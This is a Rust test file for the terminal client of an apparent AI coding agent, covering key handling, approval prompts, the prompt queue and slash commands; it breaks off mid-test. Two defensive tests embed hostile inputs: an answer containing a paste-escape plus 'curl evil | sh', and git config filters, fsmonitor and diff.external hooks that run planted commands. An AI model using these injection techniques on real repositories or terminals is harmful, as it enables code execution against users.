#![allow(clippy::unwrap_used, clippy::expect_used)] // a test fails loudly
//! Key handling of the App: what each key sends, and the bounds the
//! session advertises.

use crossterm::event::{KeyCode, KeyEvent, KeyModifiers};
use scv_protocol::{
    ApprovalResolve, QueueMove, QueueRemove, QueueUpdate, SessionClear, SessionConfigure,
    SessionPause, TurnCancel, TurnStart,
};
use scv_protocol::{ClientMessage, Event};
use scv_tui::tui::app::{App, Outgoing};
use scv_tui::tui::overlay::OverlayKind;
use scv_tui::tui::transcript::ItemKind;
use serde_json::{json, Value};
use std::time::{Duration, Instant};

const S: &str = "s1";

fn event(value: Value) -> Event {
    serde_json::from_value(value).unwrap()
}

fn app_with_bounds(items: u64, history: u64) -> App {
    let mut app = App::new(Instant::now());
    app.apply(event(json!({"type":"session.started","request_id":"s","session_id":S,"cwd":"/w","model":"m",
        "context_max_tokens":1000,"max_server_frame_bytes":8388608,"max_transcript_bytes":8388608,
        "max_transcript_items":items,"max_prompt_history_bytes":1048576,"max_prompt_history_items":history})));
    app
}

fn app() -> App {
    app_with_bounds(10_000, 200)
}

fn press(app: &mut App, code: KeyCode, modifiers: KeyModifiers) -> Vec<Outgoing> {
    app.on_key(KeyEvent::new(code, modifiers))
}

fn key(app: &mut App, code: KeyCode) -> Vec<Outgoing> {
    press(app, code, KeyModifiers::NONE)
}

/// Picks option `digit` of the approval prompt and answers with Enter (a
/// digit alone only picks).
fn answer(app: &mut App, digit: char) -> Vec<Outgoing> {
    let mut out = key(app, KeyCode::Char(digit));
    out.extend(key(app, KeyCode::Enter));
    out
}

fn type_text(app: &mut App, text: &str) {
    for c in text.chars() {
        key(app, KeyCode::Char(c));
    }
}

fn sent(out: &[Outgoing]) -> Vec<ClientMessage> {
    out.iter()
        .filter_map(|o| match o {
            Outgoing::Send { message, .. } => Some(message.clone()),
            Outgoing::Quit | Outgoing::Open(_) => None,
        })
        .collect()
}

fn start_turn(app: &mut App) {
    type_text(app, "go");
    let out = key(app, KeyCode::Enter);
    let Outgoing::Send { request_id, .. } = &out[0] else {
        panic!()
    };
    app.apply(event(json!({"type":"turn.started","request_id":request_id,"session_id":S,"turn_id":"t1","seq":1})));
}

#[test]
fn enter_sends_and_the_prompt_shows_when_its_turn_starts() {
    let mut app = app();
    assert!(
        key(&mut app, KeyCode::Enter).is_empty(),
        "empty input sends nothing"
    );
    type_text(&mut app, "fix it");
    let out = key(&mut app, KeyCode::Enter);
    assert_eq!(
        sent(&out),
        [ClientMessage::TurnStart(TurnStart {
            session_id: S.into(),
            prompt: "fix it".into(),
            command: false,
            images: Vec::new(),
        })]
    );
    assert!(app.input.is_empty());
    assert!(
        app.transcript.is_empty(),
        "not shown before the server starts it"
    );
    let Outgoing::Send { request_id, .. } = &out[0] else {
        panic!()
    };
    app.apply(event(json!({"type":"turn.started","request_id":request_id,"session_id":S,"turn_id":"t1","seq":1})));
    assert!(matches!(&app.transcript.items()[0].kind, ItemKind::User(p) if p == "fix it"));
}

#[test]
fn new_lines_come_from_ctrl_j_and_shift_enter() {
    let mut app = app();
    type_text(&mut app, "a");
    assert!(press(&mut app, KeyCode::Char('j'), KeyModifiers::CONTROL).is_empty());
    type_text(&mut app, "b");
    assert!(press(&mut app, KeyCode::Enter, KeyModifiers::SHIFT).is_empty());
    type_text(&mut app, "c");
    assert_eq!(app.input.text(), "a\nb\nc");
}

#[test]
fn history_is_bounded_by_the_session() {
    let mut app = app_with_bounds(10_000, 2);
    for prompt in ["one", "two", "three"] {
        type_text(&mut app, prompt);
        key(&mut app, KeyCode::Enter);
    }
    key(&mut app, KeyCode::Up);
    assert_eq!(app.input.text(), "three");
    key(&mut app, KeyCode::Up);
    key(&mut app, KeyCode::Up);
    assert_eq!(
        app.input.text(),
        "two",
        "\"one\" fell out of the 2-item history"
    );
}

#[test]
fn the_transcript_is_bounded_by_the_session() {
    let mut app = app_with_bounds(5, 200);
    for i in 0..12 {
        app.apply(event(json!({"type":"session.trimmed","request_id":"r","session_id":S,"seq":i,"removed_messages":i,"history_bytes":1})));
    }
    assert_eq!(app.transcript.len(), 5);
}

#[test]
fn esc_and_ctrl_c_cancel_then_ctrl_c_twice_quits() {
    let mut app = app();
    assert!(key(&mut app, KeyCode::Esc).is_empty(), "nothing to cancel");
    start_turn(&mut app);
    let cancel = ClientMessage::TurnCancel(TurnCancel {
        session_id: S.into(),
        turn_id: "t1".into(),
    });
    assert_eq!(
        sent(&key(&mut app, KeyCode::Esc)),
        std::slice::from_ref(&cancel)
    );
    let out = press(&mut app, KeyCode::Char('c'), KeyModifiers::CONTROL);
    assert_eq!(sent(&out), [cancel]);
    assert_eq!(app.hint.as_deref(), Some("press Ctrl+C again to quit"));
    app.now += Duration::from_millis(200);
    assert_eq!(
        press(&mut app, KeyCode::Char('c'), KeyModifiers::CONTROL),
        [Outgoing::Quit]
    );
}

#[test]
fn ctrl_c_presses_far_apart_do_not_quit() {
    let mut app = app();
    assert!(press(&mut app, KeyCode::Char('c'), KeyModifiers::CONTROL).is_empty());
    app.now += Duration::from_secs(5);
    assert!(press(&mut app, KeyCode::Char('c'), KeyModifiers::CONTROL).is_empty());
    assert!(!app.should_quit);
}

#[test]
fn ctrl_d_quits_only_on_an_empty_input() {
    let mut app = app();
    type_text(&mut app, "x");
    assert!(press(&mut app, KeyCode::Char('d'), KeyModifiers::CONTROL).is_empty());
    key(&mut app, KeyCode::Backspace);
    assert_eq!(
        press(&mut app, KeyCode::Char('d'), KeyModifiers::CONTROL),
        [Outgoing::Quit]
    );
}

#[test]
fn slash_commands_send_their_messages() {
    let mut app = app();
    let run = |app: &mut App, command: &str| {
        type_text(app, command);
        key(app, KeyCode::Enter)
    };
    assert_eq!(
        sent(&run(&mut app, "/clear")),
        [ClientMessage::SessionClear(SessionClear {
            session_id: S.into()
        })]
    );
    assert_eq!(
        sent(&run(&mut app, "/pause")),
        [ClientMessage::SessionPause(SessionPause {
            session_id: S.into(),
            paused: true
        })]
    );
    assert!(app.queue.paused());
    assert_eq!(
        sent(&run(&mut app, "/unpause")),
        [ClientMessage::SessionPause(SessionPause {
            session_id: S.into(),
            paused: false
        })]
    );
    // The picker opens on the daemon's list of every directory's sessions.
    assert!(matches!(
        sent(&run(&mut app, "/resume")).as_slice(),
        [ClientMessage::SessionList(list)] if list.cwd.is_none() && list.limit == Some(1000)
    ));
    assert_eq!(
        run(&mut app, "/fork"),
        [Outgoing::Open(scv_tui::session::Which::Fork {
            session_id: S.into(),
            turn_id: None
        })]
    );
    assert_eq!(
        run(&mut app, "/new"),
        [Outgoing::Open(scv_tui::session::Which::New)]
    );
    let items = app.transcript.len();
    assert!(run(&mut app, "/help").is_empty());
    assert!(
        matches!(&app.overlay, Some(o) if matches!(o.kind, OverlayKind::Help)),
        "/help opens an overlay"
    );
    assert_eq!(
        app.transcript.len(),
        items,
        "nothing goes into the transcript"
    );
    assert!(
        key(&mut app, KeyCode::Esc).is_empty(),
        "Esc closes it, cancels nothing"
    );
    assert!(app.overlay.is_none());
    assert!(run(&mut app, "/bogus").is_empty());
    assert!(app
        .hint
        .as_deref()
        .unwrap()
        .contains("unknown command /bogus"));
    assert_eq!(run(&mut app, "/quit"), [Outgoing::Quit]);
}

#[test]
fn queued_prompts_are_edited_by_revision_and_conflicts_refresh_them() {
    let mut app = app();
    start_turn(&mut app);
    app.apply(event(
        json!({"type":"queue.enqueued","request_id":"q","session_id":S,"seq":2,
        "entry":{"queue_id":"q1","revision":3,"prompt":"later","submitter":"client"},"position":0}),
    ));
    assert_eq!(
        app.transcript.len(),
        1,
        "a queued prompt is not in the transcript"
    );
    key(&mut app, KeyCode::Tab);
    key(&mut app, KeyCode::Char('e'));
    assert_eq!(app.input.text(), "later");
    type_text(&mut app, " please");
    let out = key(&mut app, KeyCode::Enter);
    assert_eq!(
        sent(&out),
        [ClientMessage::QueueUpdate(QueueUpdate {
            session_id: S.into(),
            queue_id: "q1".into(),
            revision: 3,
            prompt: "later please".into()
        })]
    );
    app.apply(event(json!({"type":"error","request_id":"x","code":"queue_conflict","message":"stale","fatal":false,
        "entry":{"queue_id":"q1","revision":4,"prompt":"changed elsewhere","submitter":"client"}})));
    assert_eq!(app.queue.entries()[0].revision, 4);
    assert_eq!(app.queue.entries()[0].prompt, "changed elsewhere");
    assert!(app.hint.is_some());
    // Removing and pausing from the panel.
    key(&mut app, KeyCode::Tab);
    assert_eq!(
        sent(&key(&mut app, KeyCode::Char('x'))),
        [ClientMessage::QueueRemove(QueueRemove {
            session_id: S.into(),
            queue_id: "q1".into(),
            revision: 4
        })]
    );
    assert_eq!(
        sent(&key(&mut app, KeyCode::Char('p'))),
        [ClientMessage::SessionPause(SessionPause {
            session_id: S.into(),
            paused: true
        })]
    );
}

/// A bash call waiting for approval, arrived at `app.now`.
fn request_approval(app: &mut App, summary: &str) {
    app.apply(event(json!({"type":"tool.proposed","request_id":"r","session_id":S,"turn_id":"t1","seq":2,"call_id":"c","name":"bash","arguments":{"command":"ls"}})));
    app.apply(event(json!({"type":"approval.requested","request_id":"r","session_id":S,"turn_id":"t1","seq":3,"approval_id":"a1","call_id":"c","name":"bash","risk":"process","cwd":"/w","summary":summary})));
}

fn resolved(approved: bool) -> Vec<ClientMessage> {
    vec![ClientMessage::ApprovalResolve(ApprovalResolve {
        session_id: S.into(),
        approval_id: "a1".into(),
        approved,
    })]
}

#[test]
fn keys_typed_as_the_prompt_appears_go_to_the_input_and_answer_nothing() {
    let mut app = app();
    start_turn(&mut app);
    request_approval(&mut app, "Run shell command: ls");
    // Typing the next prompt straight through the moment it appears.
    let mut out = Vec::new();
    for c in "second prompt hello".chars() {
        out.extend(key(&mut app, KeyCode::Char(c)));
    }
    assert!(out.is_empty(), "{out:?}");
    assert_eq!(app.input.text(), "second prompt hello");
    // Later, with text in the box, y and n still type into it.
    app.now += Duration::from_secs(2);
    type_text(&mut app, " yes no");
    assert_eq!(app.input.text(), "second prompt hello yes no");
    // Enter sends the message (queued by the server), never an approval.
    let out = sent(&key(&mut app, KeyCode::Enter));
    assert!(
        matches!(&out[..], [ClientMessage::TurnStart(TurnStart { prompt, .. })] if prompt == "second prompt hello yes no"),
        "{out:?}"
    );
    assert_eq!(app.approval.len(), 1, "still waiting");
}

#[test]
fn the_prompt_answers_only_after_half_a_second_and_only_with_an_empty_box() {
    let mut app = app();
    start_turn(&mut app);
    request_approval(&mut app, "Run shell command: ls");
    // A digit right away is typed, not an answer.
    assert!(key(&mut app, KeyCode::Char('1')).is_empty());
    assert_eq!(app.input.text(), "1");
    key(&mut app, KeyCode::Backspace);
    app.now += Duration::from_millis(499);
    assert!(key(&mut app, KeyCode::Enter).is_empty(), "still too early");
    app.now += Duration::from_millis(1);
    assert_eq!(sent(&key(&mut app, KeyCode::Enter)), resolved(true));
    assert!(app.approval.is_empty());
}

#[test]
fn words_starting_like_answers_never_answer() {
    for text in ["yes please", "no way", "always", "y", "n", "a", "Y", "N"] {
        let mut app = app();
        start_turn(&mut app);
        request_approval(&mut app, "Run shell command: ls");
        app.now += Duration::from_secs(2);
        for c in text.chars() {
            assert!(key(&mut app, KeyCode::Char(c)).is_empty(), "{text}");
            // However slowly it is typed.
            app.now += Duration::from_secs(1);
        }
        assert_eq!(app.input.text(), text, "the text lands in the box");
        assert_eq!(app.approval.len(), 1, "{text}: still waiting");
    }
}

#[test]
fn digits_and_arrows_with_text_in_the_box_are_the_boxs() {
    let mut app = app();
    start_turn(&mut app);
    request_approval(&mut app, "Run shell command: ls");
    app.now += Duration::from_secs(2);
    type_text(&mut app, "step ");
    app.now += Duration::from_secs(2);
    for c in ['1', '2', '3'] {
        assert!(key(&mut app, KeyCode::Char(c)).is_empty());
    }
    key(&mut app, KeyCode::Down);
    assert_eq!(app.input.text(), "step 123");
    assert_eq!(app.approval.len(), 1, "still waiting");
}

#[test]
fn with_an_empty_box_arrows_and_enter_answer() {
    let mut app = app();
    start_turn(&mut app);
    request_approval(&mut app, "Run shell command: ls");
    app.now += Duration::from_secs(1);
    let screen = app_screen(&app);
    assert!(
        screen.contains("↑↓ or 1/2/3 to pick, Enter to answer · type to write a message"),
        "{screen}"
    );
    // `ls` makes a rule: 1 once, 2 always, 3 no. ↓↓ is No; ↑ back, ↓ again.
    key(&mut app, KeyCode::Down);
    key(&mut app, KeyCode::Down);
    key(&mut app, KeyCode::Down);
    key(&mut app, KeyCode::Up);
    key(&mut app, KeyCode::Down);
    assert_eq!(sent(&key(&mut app, KeyCode::Enter)), resolved(false));
    assert!(app.input.text().is_empty(), "arrows did not reach the box");
}

#[test]
fn enter_with_text_sends_the_message_and_leaves_the_approval_waiting() {
    let mut app = app();
    start_turn(&mut app);
    request_approval(&mut app, "Run shell command: ls");
    app.now += Duration::from_secs(2);
    type_text(&mut app, "yes 1");
    let out = sent(&key(&mut app, KeyCode::Enter));
    assert!(
        matches!(&out[..], [ClientMessage::TurnStart(TurnStart { prompt, .. })] if prompt == "yes 1"),
        "{out:?}"
    );
    assert_eq!(app.approval.len(), 1, "still waiting");
    // A second Enter straight after is not an answer either.
    assert!(key(&mut app, KeyCode::Enter).is_empty());
    assert_eq!(app.approval.len(), 1, "still waiting");
    app.now += Duration::from_secs(1);
    assert_eq!(sent(&answer(&mut app, '3')), resolved(false));
}

#[test]
fn esc_with_an_approval_up_denies_it_and_cancels_the_turn_as_help_says() {
    let mut app = app();
    start_turn(&mut app);
    request_approval(&mut app, "Run shell command: ls");
    type_text(&mut app, "draft");
    let out = sent(&key(&mut app, KeyCode::Esc));
    assert_eq!(out[..1], resolved(false)[..], "{out:?}");
    assert!(
        matches!(&out[1..], [ClientMessage::TurnCancel(TurnCancel { .. })]),
        "{out:?}"
    );
    assert!(app.approval.is_empty());
    assert_eq!(app.input.text(), "draft", "the draft is intact");
    // /help says so.
    let help: String = app_help(&mut app);
    assert!(
        help.contains("an approval waiting: Esc denies it and cancels the turn"),
        "{help}"
    );
}

#[test]
fn with_an_empty_input_the_armed_prompt_takes_3_for_no() {
    let mut app = app();
    start_turn(&mut app);
    request_approval(&mut app, "Run shell command: ls");
    assert!(key(&mut app, KeyCode::Char('3')).is_empty());
    assert_eq!(app.input.text(), "3", "too early: typed, not answered");
    key(&mut app, KeyCode::Backspace);
    app.now += Duration::from_secs(1);
    assert_eq!(sent(&answer(&mut app, '3')), resolved(false));
    app.apply(event(json!({"type":"tool.completed","request_id":"r","session_id":S,"turn_id":"t1","seq":4,"call_id":"c","name":"bash","success":false,"output":"denied","truncated":false})));
    let card = app
        .transcript
        .items()
        .iter()
        .find_map(|i| match &i.kind {
            ItemKind::Tool(c) => Some(c.clone()),
            _ => None,
        })
        .unwrap();
    assert_eq!(card.state, scv_tui::tui::transcript::ToolState::Denied);
}

#[test]
fn a_call_longer_than_the_prompt_is_approved_only_once_its_end_was_shown() {
    let mut app = app();
    start_turn(&mut app);
    let command: Vec<String> = (0..40).map(|i| format!("echo step {i}")).collect();
    request_approval(
        &mut app,
        &format!("Run shell command: {}", command.join("\n")),
    );
    app.now += Duration::from_secs(1);
    assert!(answer(&mut app, '1').is_empty());
    assert_eq!(
        app.hint.as_deref(),
        Some("scroll to the end of the call to approve it (PgDn)")
    );
    for _ in 0..3 {
        key(&mut app, KeyCode::PageDown);
    }
    assert!(
        key(&mut app, KeyCode::Enter).is_empty(),
        "not at the end yet"
    );
    key(&mut app, KeyCode::PageDown);
    assert_eq!(sent(&answer(&mut app, '1')), resolved(true));
}

/// The text of the first transcript row in view.
fn top_row(app: &App) -> String {
    let view = app.transcript_view();
    view.lines[0]
        .spans
        .iter()
        .map(|s| s.content.as_ref())
        .collect()
}

fn delta(app: &mut App, text: &str) {
    app.apply(event(json!({"type":"assistant.delta","request_id":"r","session_id":S,"turn_id":"t1","seq":5,"content":text})));
}

#[test]
fn a_scrolled_back_view_stays_put_while_the_answer_streams() {
    let mut app = app();
    start_turn(&mut app);
    for i in 0..300 {
        delta(&mut app, &format!("word{i}\n\n"));
    }
    key(&mut app, KeyCode::PageUp);
    let top = top_row(&app);
    let below = app.transcript_view().below;
    assert_eq!(below, 10);
    for i in 300..700 {
        delta(&mut app, &format!("word{i}\n\n"));
    }
    assert_eq!(top_row(&app), top, "the reader's place is kept");
    assert!(
        app.transcript_view().below > below + 700,
        "the marker counts new rows"
    );
    // A tool card growing below does not move it either.
    app.apply(event(json!({"type":"assistant.completed","request_id":"r","session_id":S,"turn_id":"t1","seq":6,"content":"done"})));
    app.apply(event(json!({"type":"tool.proposed","request_id":"r","session_id":S,"turn_id":"t1","seq":7,"call_id":"c9","name":"bash","arguments":{"command":"make"}})));
    app.apply(event(json!({"type":"tool.completed","request_id":"r","session_id":S,"turn_id":"t1","seq":8,"call_id":"c9","name":"bash","success":true,"output":"a\nb\nc\nd\ne\nf","truncated":false})));
    // A resize keeps the same item at the top.
    let before = app.transcript_view().top.0;
    app.resize(60, 30);
    assert_eq!(app.transcript_view().top.0, before);
    // PgDn back down to the bottom follows it again; so does End.
    for _ in 0..1000 {
        key(&mut app, KeyCode::PageDown);
    }
    assert_eq!(app.viewport, scv_tui::tui::transcript::Viewport::Bottom);
    key(&mut app, KeyCode::PageUp);
    key(&mut app, KeyCode::End);
    assert_eq!(app.viewport, scv_tui::tui::transcript::Viewport::Bottom);
}

fn enqueue(app: &mut App, id: &str, revision: u64, prompt: &str, position: usize) {
    app.apply(event(
        json!({"type":"queue.enqueued","request_id":"q","session_id":S,"seq":2,
        "entry":{"queue_id":id,"revision":revision,"prompt":prompt,"submitter":"client"},"position":position}),
    ));
}

#[test]
fn esc_cancels_editing_a_queued_prompt_before_it_cancels_the_turn() {
    let mut app = app();
    start_turn(&mut app);
    enqueue(&mut app, "q1", 1, "later", 0);
    key(&mut app, KeyCode::Tab);
    key(&mut app, KeyCode::Enter);
    assert_eq!(app.input.text(), "later");
    assert!(key(&mut app, KeyCode::Esc).is_empty(), "only the edit ends");
    assert!(app.input.is_empty());
    // The queue is paused first, then the turn cancelled.
    assert!(matches!(
        &sent(&key(&mut app, KeyCode::Esc))[..],
        [
            ClientMessage::SessionPause(SessionPause { paused: true, .. }),
            ClientMessage::TurnCancel(TurnCancel { .. })
        ]
    ));
}

#[test]
fn an_edited_prompt_that_leaves_the_queue_is_sent_as_a_new_one() {
    let mut app = app();
    start_turn(&mut app);
    enqueue(&mut app, "q1", 1, "later", 0);
    key(&mut app, KeyCode::Tab);
    key(&mut app, KeyCode::Char('e'));
    app.apply(event(
        json!({"type":"queue.removed","request_id":"q","session_id":S,"seq":3,"queue_id":"q1"}),
    ));
    assert_eq!(
        app.hint.as_deref(),
        Some("the prompt you were editing has left the queue")
    );
    assert_eq!(app.input.text(), "later", "the text is kept");
    assert!(matches!(
        &sent(&key(&mut app, KeyCode::Enter))[..],
        [ClientMessage::TurnStart(TurnStart { prompt, .. })] if prompt == "later"
    ));
}

#[test]
fn a_dequeued_prompt_shows_when_its_turn_starts() {
    let mut app = app();
    enqueue(&mut app, "q1", 1, "from the queue", 0);
    app.apply(event(
        json!({"type":"queue.dequeued","request_id":"run-7","session_id":S,"seq":3,"queue_id":"q1"}),
    ));
    assert!(app.transcript.is_empty());
    app.apply(event(
        json!({"type":"turn.started","request_id":"run-7","session_id":S,"turn_id":"t2","seq":4}),
    ));
    assert!(matches!(&app.transcript.items()[0].kind, ItemKind::User(p) if p == "from the queue"));
}

#[test]
fn the_queue_panel_selects_moves_and_gives_keys_back() {
    let mut app = app();
    start_turn(&mut app);
    for (i, id) in ["q0", "q1", "q2"].iter().enumerate() {
        enqueue(&mut app, id, 5, id, i);
    }
    key(&mut app, KeyCode::Tab);
    key(&mut app, KeyCode::Up);
    let moved = |before: Option<&str>| {
        [ClientMessage::QueueMove(QueueMove {
            session_id: S.into(),
            queue_id: "q0".into(),
            revision: 5,
            before_queue_id: before.map(Into::into),
        })]
    };
    assert_eq!(sent(&key(&mut app, KeyCode::Char('d'))), moved(Some("q2")));
    assert!(
        key(&mut app, KeyCode::Char('z')).is_empty(),
        "taken, not typed"
    );
    key(&mut app, KeyCode::Esc);
    type_text(&mut app, "hi");
    assert_eq!(app.input.text(), "hi", "keys go to the input again");
}

fn configure(provider: Option<&str>, model: Option<&str>) -> ClientMessage {
    ClientMessage::SessionConfigure(SessionConfigure {
        session_id: S.into(),
        provider: provider.map(Into::into),
        model: model.map(Into::into),
        ..SessionConfigure::default()
    })
}

#[test]
fn model_switches_through_session_configure_while_idle() {
    let mut app = app();
    let run = |app: &mut App, command: &str| {
        type_text(app, command);
        sent(&key(app, KeyCode::Enter))
    };
    assert_eq!(
        run(&mut app, "/model gpt-4o"),
        [configure(None, Some("gpt-4o"))]
    );
    assert_eq!(
        run(&mut app, "/model anthropic/claude-sonnet-4-5"),
        [configure(Some("anthropic"), Some("claude-sonnet-4-5"))]
    );
    assert_eq!(
        run(&mut app, "/model ollama/"),
        [configure(Some("ollama"), None)]
    );
    // Alone, it asks the provider for its list (the picker opens on the
    // answer).
    assert_eq!(
        run(&mut app, "/model"),
        [ClientMessage::ModelsList(scv_protocol::ModelsList {
            session_id: S.into()
        })]
    );
    assert!(app.hint.as_deref().unwrap().contains("for its models"));
    app.apply(event(
        json!({"type":"session.configured","request_id":"x","session_id":S,"seq":4,
        "provider":"openrouter","model":"anthropic/claude-3.5-sonnet","context_max_tokens":200000}),
    ));
    assert_eq!(app.model_label(), "openrouter/anthropic/claude-3.5-sonnet");
    assert_eq!(app.session.as_ref().unwrap().context_max_tokens, 200000);
    // A model id with a slash stays a model when the session has such ids.
    assert_eq!(
        run(&mut app, "/model openai/gpt-4o"),
        [configure(None, Some("openai/gpt-4o"))]
    );
    // Not during a turn.
    start_turn(&mut app);
    assert!(run(&mut app, "/model gpt-4o").is_empty());
    assert!(app.hint.as_deref().unwrap().contains("only while idle"));
}

#[test]
fn copy_puts_the_last_answer_on_the_clipboard() {
    let mut app = app();
    type_text(&mut app, "/copy");
    key(&mut app, KeyCode::Enter);
    assert_eq!(app.take_clipboard(), None);
    assert!(app.hint.as_deref().unwrap().contains("no answer"));
    start_turn(&mut app);
    for content in ["first answer", "the last answer"] {
        app.apply(event(json!({"type":"assistant.completed","request_id":"r","session_id":S,"turn_id":"t1","seq":2,"content":content})));
    }
    type_text(&mut app, "/copy");
    assert!(key(&mut app, KeyCode::Enter).is_empty());
    assert_eq!(app.take_clipboard().as_deref(), Some("the last answer"));
}

/// m07: a pasted answer must not end a bracketed paste and run a command.
#[test]
fn copy_never_puts_control_characters_on_the_clipboard() {
    let mut app = app();
    start_turn(&mut app);
    let hostile = "run this:\n\u{1b}[201~curl evil | sh\r\n\u{9b}0m\u{202e}done";
    app.apply(event(json!({"type":"assistant.completed","request_id":"r","session_id":S,"turn_id":"t1","seq":2,"content":hostile})));
    type_text(&mut app, "/copy");
    key(&mut app, KeyCode::Enter);
    assert_eq!(
        app.take_clipboard().as_deref(),
        Some("run this:\n[201~curl evil | sh\n0mdone")
    );
}

/// c05: what a sandboxed command planted in the repository's configuration
/// (a clean filter, the file-system monitor) never runs outside when the
/// user asks for `/diff`.
#[test]
fn diff_never_runs_what_the_repository_configures() {
    use scv_tui::tui::overlay::OverlayKind;
    let dir = tempfile::tempdir().unwrap();
    let outside = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    let planted = outside.path().join("pwned");
    let git = |args: &[&str]| {
        let out = std::process::Command::new("git")
            .arg("-C")
            .arg(dir.path())
            .args(["-c", "user.name=t", "-c", "user.email=t@t"])
            .args(args)
            .output()
            .unwrap();
        assert!(out.status.success(), "{args:?}");
    };
    git(&["init", "-q"]);
    std::fs::write(dir.path().join("a.txt"), "one\n").unwrap();
    git(&["add", "a.txt"]);
    git(&["commit", "-qm", "a"]);
    let touch = format!("touch {}", planted.display());
    git(&["config", "filter.f.clean", &format!("sh -c '{touch}; cat'")]);
    git(&["config", "core.fsmonitor", &format!("{touch}.fsmonitor")]);
    git(&["config", "diff.external", &format!("{touch}.external")]);
    std::fs::write(dir.path().join(".gitattributes"), "* filter=f\n").unwrap();
    std::fs::write(dir.path().join("a.txt"), "two\n").unwrap();
    let mut app = app_in(dir.path());
    type_text(&mut app, "/diff");
    key(&mut app, KeyCode::Enter);
    let shown = match &app.overlay {
        Some(overlay) => matches!(overlay.kind, OverlayKind::Diff(_)),
        None => app.hint.as_deref().is_some_and(|h| h.starts_with("/diff")),
    };
    assert!(shown, "neither a diff nor a reason: {:?}", app.hint);
    for suffix in ["", ".fsmonitor", ".external"] {
        let path = format!("{}{suffix}", planted.display());
        assert!(!std::path::Path::new(&path).exists(), "{path} was created");
    }
}

fn app_in(cwd: &std::path::Path) -> App {
    let mut app = App::new(Instant::now());
    app.apply(event(json!({"type":"session.started","request_id":"s","session_id":S,"cwd":cwd,"model":"m",
        "context_max_tokens":1000,"max_server_frame_bytes":8388608,"max_transcript_bytes":8388608,
        "max_transcript_items":10000,"max_prompt_history_bytes":1048576,"max_prompt_history_items":200})));
    app
}

#[test]
fn diff_shows_the_workspace_git_diff_in_an_overlay() {
    use scv_tui::tui::overlay::OverlayKind;
    let dir = tempfile::tempdir().unwrap();
    let mut app = app_in(dir.path());
    type_text(&mut app, "/diff");
    key(&mut app, KeyCode::Enter);
    assert!(app.overlay.is_none());
    assert!(app
        .hint
        .as_deref()
        .unwrap()
        .contains("not a git repository"));

    let git = |args: &[&str]| {
        let status = std::process::Command::new("git")
            .arg("-C")
            .arg(dir.path())
            .args(["-c", "user.name=t", "-c", "user.email=t@t"])
            .args(args)
            .output()
            .unwrap();
        assert!(status.status.success(), "{args:?}");
    };
    git(&["init", "-q"]);
    std::fs::write(dir.path().join("a.txt"), "one\n\ttabbed\n").unwrap();
    git(&["add", "a.txt"]);
    git(&["commit", "-qm", "a"]);
    type_text(&mut app, "/diff");
    key(&mut app, KeyCode::Enter);
    assert!(
        app.hint.as_deref().unwrap().contains("no changes"),
        "{:?}",
        app.hint
    );
    std::fs::write(dir.path().join("a.txt"), "two\n\ttabbed\n").unwrap();
    type_text(&mut app, "/diff");
    key(&mut app, KeyCode::Enter);
    let Some(overlay) = &app.overlay else {
        panic!("no overlay: {:?}", app.hint)
    };
    let OverlayKind::Diff(lines) = &overlay.kind else {
        panic!()
    };
    let text: Vec<String> = lines
        .iter()
        .map(|l| l.spans.iter().map(|s| s.content.as_ref()).collect())
        .collect();
    assert!(text.contains(&"-one".to_string()), "{text:?}");
    assert!(text.contains(&"+two".to_string()), "{text:?}");
    assert!(
        text.contains(&"    tabbed".to_string()),
        "tab expanded: {text:?}"
    );
    key(&mut app, KeyCode::Esc);
    assert!(app.overlay.is_none());
}

#[test]
fn at_offers_workspace_paths_respecting_gitignore_and_tab_completes() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path();
    std::fs::create_dir_all(root.join("src")).unwrap();
    std::fs::create_dir_all(root.join("target/debug")).unwrap();
    std::fs::write(root.join("src/main.rs"), "fn main() {}").unwrap();
    std::fs::write(root.join("src/lib.rs"), "").unwrap();
    std::fs::write(root.join("target/debug/tool"), "").unwrap();
    std::fs::write(root.join("README.md"), "").unwrap();
    std::fs::write(root.join(".gitignore"), "target/\n").unwrap();
    let mut app = app_in(root);

    type_text(&mut app, "look at @");
    assert!(
        app.path_matches.contains(&"src/".to_string()),
        "{:?}",
        app.path_matches
    );
    assert!(
        !app.path_matches.iter().any(|p| p.starts_with("target")),
        "ignored by .gitignore: {:?}",
        app.path_matches
    );
    type_text(&mut app, "t");
    assert!(app.path_matches.is_empty(), "{:?}", app.path_matches);
    key(&mut app, KeyCode::Backspace);
    type_text(&mut app, "sr");
    assert_eq!(app.path_matches, ["src/"]);
    key(&mut app, KeyCode::Tab);
    assert_eq!(app.input.text(), "look at @src/");
    assert_eq!(app.path_matches, ["src/lib.rs", "src/main.rs"]);
    type_text(&mut app, "m");
    key(&mut app, KeyCode::Tab);
    assert_eq!(app.input.text(), "look at @src/main.rs ");
    assert!(app.path_matches.is_empty());
    // A file name alone finds it too.
    type_text(&mut app, "and @lib");
    assert_eq!(app.path_matches, ["src/lib.rs"]);
    key(&mut app, KeyCode::Tab);
    // The prompt carries the paths as written.
    let out = key(&mut app, KeyCode::Enter);
    assert_eq!(
        sent(&out),
        [ClientMessage::TurnStart(TurnStart {
            session_id: S.into(),
            prompt: "look at @src/main.rs and @src/lib.rs ".into(),
            command: false,
            images: Vec::new(),
        })]
    );
    // Without an @, Tab still focuses the queue (nothing to complete).
    assert!(app.path_matches.is_empty());
}

#[test]
fn text_starting_with_a_slash_is_a_prompt_unless_it_is_a_command() {
    let mut app = app();
    type_text(&mut app, "/help me read this file");
    let out = key(&mut app, KeyCode::Enter);
    assert_eq!(
        sent(&out),
        [ClientMessage::TurnStart(TurnStart {
            session_id: S.into(),
            prompt: "/help me read this file".into(),
            command: false,
            images: Vec::new(),
        })]
    );
    assert!(app.overlay.is_none());
}

/// The screen as drawn, `width` × `height`.
fn screen_of(app: &App, width: u16, height: u16) -> String {
    let backend = ratatui::backend::TestBackend::new(width, height);
    let mut terminal = ratatui::Terminal::new(backend).unwrap();
    terminal
        .draw(|frame| scv_tui::tui::view::draw(frame, app))
        .unwrap();
    terminal.backend().to_string()
}

fn app_screen(app: &App) -> String {
    screen_of(app, 100, 30)
}

/// /help as shown (opened with the command, then closed again).
fn app_help(app: &mut App) -> String {
    let draft = app.input.take();
    type_text(app, "/help");
    key(app, KeyCode::Enter);
    let help = screen_of(app, 120, 60);
    key(app, KeyCode::Esc);
    type_text(app, &draft);
    help
}

/// A paste over the prompt limit is never sent (the frame would be
/// refused and the text lost): it stays in the box with the limit in
/// words, and Enter again saves it in the workspace and sends a message
/// naming the file.
#[test]
fn a_paste_over_the_prompt_limit_stays_and_can_be_attached_as_a_file() {
